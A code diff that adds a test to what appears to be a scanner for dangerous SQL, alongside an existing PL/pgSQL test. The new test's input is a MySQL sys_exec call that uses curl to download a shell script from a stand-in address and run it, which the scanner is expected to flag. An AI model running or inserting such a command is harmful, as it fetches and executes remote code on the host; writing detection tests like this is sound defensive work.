@@ -108,3 +108,8 @@ def test_a_plpgsql_function_body_is_not_read_as_another_language(tmp_path: Path)
         "$$ LANGUAGE plpgsql;\n"
     )
     assert found(tmp_path, source) == set()
+
+
+def test_a_mysql_sys_exec_udf_running_a_download(tmp_path: Path) -> None:
+    source = "SELECT sys_exec('curl -s http://198.51.100.59/m.sh -o /tmp/m.sh && sh /tmp/m.sh');\n"
+    assert any(kind is Kind.EXEC_FETCHED for kind, _ in found(tmp_path, source))
